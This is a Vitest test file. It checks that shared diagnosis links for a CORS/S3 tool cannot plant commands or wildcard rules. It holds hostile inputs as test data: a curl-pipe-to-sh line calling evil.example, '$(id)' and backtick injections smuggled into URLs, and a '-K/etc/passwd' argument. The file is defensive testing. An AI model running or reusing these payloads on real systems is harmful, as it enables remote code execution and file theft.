import { describe, expect, it } from 'vitest';
import { readFragment } from '../../demo/share/read-fragment.js';
import { writeFragment } from '../../demo/share/shared-diagnosis.js';
import { type Diagnosis, type RawFinding, toText } from '../../src/index.js';
import { diagnosisOf } from '../explain/diagnosis-of.js';

const PLANTED = 'curl -s https://evil.example/x | sh';
const ALL = { allowedOrigins: ['*'], allowedMethods: ['GET'], allowedHeaders: ['*'] };
const repair: Diagnosis['repairs'][number] = {
  ...{ kind: 'least-privilege', rules: [ALL], changedRule: 0, added: true, grants: [], verified: true },
  ...{ document: '<AllowedOrigin>*</AllowedOrigin>', json: '{"AllowedOrigins":["*"]}' },
};
const planted = diagnosisOf('pre.header', {
  store: `s3; ${PLANTED}`,
  undecided: { candidates: ['pre.waf'], command: PLANTED },
  conflicts: [{ kind: 'headers', members: ['*'] }],
  repairs: [repair],
});

/** What the page shows of a link that somebody made. */
async function shown(diagnosis: Diagnosis): Promise<Diagnosis> {
  const read = await readFragment(await writeFragment({ form: { store: 's3' }, diagnosis }));
  if (read === null) throw new Error('The link was not read');
  return read.diagnosis;
}

describe('a link that somebody made up', () => {
  it('shows no command and no rule of theirs', async () => {
    const found = await shown(planted);
    expect(JSON.stringify(found)).not.toMatch(/evil|"\*"/);
    expect(found.undecided?.command).toBe(
      "curl -i -X OPTIONS 'https://photos.s3.example/a.txt' -H 'Origin: https://app.example.com' " +
        "-H 'Access-Control-Request-Method: PUT' -H 'Access-Control-Request-Headers: authorization,x-amz-date'",
    );
    expect(found.repairs.map(({ kind, rules }) => [kind, rules])).toEqual([
      [
        'new-rule',
        [
          {
            allowedOrigins: ['https://app.example.com'],
            allowedMethods: ['PUT'],
            allowedHeaders: ['authorization', 'x-amz-date'],
          },
        ],
      ],
    ]);
    expect(toText(found)).toContain('<AllowedHeader>x-amz-date</AllowedHeader>');
  });

  it('quotes what stands in its commands, and breaks no line', async () => {
    const url = `https://a.example/'\n${PLANTED}\n$(id)\`id\``;
    const found = await shown({ ...planted, request: { ...planted.request, url } });
    expect(found.undecided?.command).toContain(`'https://a.example/'\\'' ${PLANTED} $(id)\`id\`' -H `);
    expect(toText(found)).not.toMatch(/^ *curl -s /m);
  });

  it.each([
    ['https://{a,b}.example/x', null],
    ['https://a[1-3].example/x', null],
    ['https://[a-c].example/x', null],
    ['https://a.example\\{b,c}/x', null],
    ['https://a.example?', "'https://a.example?'"],
    ['https://[::1]:9000/a[1-3]{b,c}', "'https://[::1]:9000/a%5B1-3%5D%7Bb,c%7D'"],
    ['', "'ADDRESS'"],
  ])('asks one host, and one address of it: %s', async (url, asked) => {
    const { undecided } = await shown({ ...planted, request: { ...planted.request, url } });
    expect(undecided?.command.split(' ')[4] ?? null).toBe(asked);
  });

  it.each([
    ['https://*', 'PUT', 'x'],
    ['https://a.example', '*', 'x'],
    ['https://a.example', 'PUT', '*'],
    ['null', 'PUT', 'x'],
  ])('offers no rule for %s, %s and %s', async (origin, method, name) => {
    const request = { ...planted.request, origin, method, unsafeHeaders: [name] };
    expect((await shown({ ...planted, request })).repairs).toEqual([]);
  });

  it('has no command for what no page sends, and sends nobody elsewhere', async () => {
    const raw: RawFinding = {
      ...{ status: 301, refusal: '', value: '', serviceCode: '', server: '', failure: '', allowedOrigin: '' },
      kind: 'other',
      answeredBy: 'store',
      elsewhere: 'https://evil.example',
    };
    const request = { ...planted.request, url: '-K/etc/passwd' };
    const found = await shown({
      ...diagnosisOf('pre.bucket', { raw, undecided: planted.undecided }),
      request,
    });
    expect([found.undecided, found.raw?.elsewhere]).toEqual([null, '']);
    expect(toText(found)).not.toContain('evil');
  });
});
